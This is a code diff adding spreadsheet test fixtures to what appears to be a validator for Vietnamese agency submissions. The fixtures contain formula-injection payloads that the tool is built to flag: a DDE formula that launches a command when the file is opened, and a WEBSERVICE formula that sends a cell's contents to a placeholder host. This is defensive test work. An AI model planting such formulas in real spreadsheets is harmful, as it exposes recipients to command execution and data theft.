@@ -759,6 +759,21 @@ def _formula_text(ctx: Ctx, out: Path) -> None:
     edit(ctx, out, change)
 
 
+def _cause_formula(formula: str, cached: str) -> Builder:
+    """The cause cell as a formula with its cached text, as Excel saves it (XML-escaped here)."""
+
+    def build(ctx: Ctx, out: Path) -> None:
+        def change(parts: dict[str, bytes]) -> None:
+            part = sheet_part(parts, DATA)
+            f = formula.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
+            cell = f'<c r="{CAUSE}" t="str"><f>{f}</f><v>{cached}</v></c>'
+            parts[part] = set_cell_xml(parts[part], CAUSE, cell)
+
+        zip_edit(ctx, out, change)
+
+    return build
+
+
 def _copy(ctx: Ctx, out: Path) -> None:
     shutil.copy(ctx.valid, out)
 
@@ -1670,6 +1685,51 @@ CASES: list[Case] = [
         "Causes, measures and summaries starting with =, +, -, @ and holding HTML markup.",
         "Không cần làm gì; nội dung luôn được giữ là chữ.",
         "Nothing; they always stay text.",
+    ),
+    Case(
+        "cong-thuc-hyperlink.xlsx",
+        _cause_formula('HYPERLINK("http://vi-du.invalid/x","Bấm vào đây")', "Bấm vào đây"),
+        "W_FORMULA_HYPERLINK",
+        0,
+        "Nguyên nhân là công thức HYPERLINK có giá trị đã lưu 'Bấm vào đây'.",
+        "The cause is a HYPERLINK formula whose cached value is 'Bấm vào đây'.",
+        "Không cần làm gì; nội dung hiển thị được đọc, bản chú thích không giữ liên kết.",
+        "Nothing; the shown text is read, the annotated copy keeps no link.",
+        where=(f"{DATA}!{CAUSE}",),
+    ),
+    Case(
+        "cong-thuc-hyperlink.ods",
+        _cause_formula('HYPERLINK("http://vi-du.invalid/x","Bấm vào đây")', "Bấm vào đây"),
+        "W_FORMULA_HYPERLINK",
+        0,
+        "Như cong-thuc-hyperlink.xlsx, lưu dạng .ods.",
+        "cong-thuc-hyperlink.xlsx saved as .ods.",
+        "Như cong-thuc-hyperlink.xlsx.",
+        "As cong-thuc-hyperlink.xlsx.",
+        where=(f"{DATA}!{CAUSE}",),
+        convert="ods",
+    ),
+    Case(
+        "cong-thuc-dde.xlsx",
+        _cause_formula("cmd|' /C calc'!A0", UNICODE_CAUSE),
+        "E_FORMULA_UNSAFE",
+        1,
+        "Nguyên nhân là công thức DDE cmd|' /C calc'!A0 (chạy lệnh khi mở tệp) có giá trị đã lưu.",
+        "The cause is a DDE formula cmd|' /C calc'!A0 (runs a command when opened) with a cached value.",
+        "Không mở tệp bằng Excel; đề nghị cơ quan gõ trực tiếp nội dung và gửi lại.",
+        "Do not open it in Excel; ask the agency to type the text and resend.",
+        where=(f"{DATA}!{CAUSE}",),
+    ),
+    Case(
+        "cong-thuc-webservice.xlsx",
+        _cause_formula('_xlfn.WEBSERVICE("http://vi-du.invalid/?q="&B6)', UNICODE_CAUSE),
+        "E_FORMULA_UNSAFE",
+        1,
+        "Nguyên nhân là công thức WEBSERVICE gửi nội dung ô B6 ra ngoài, có giá trị đã lưu.",
+        "The cause is a WEBSERVICE formula sending cell B6 out, with a cached value.",
+        "Không mở tệp bằng Excel; đề nghị cơ quan gõ trực tiếp nội dung và gửi lại.",
+        "Do not open it in Excel; ask the agency to type the text and resend.",
+        where=(f"{DATA}!{CAUSE}",),
     ),
     Case(
         "xlsx-doi-ten.xls",
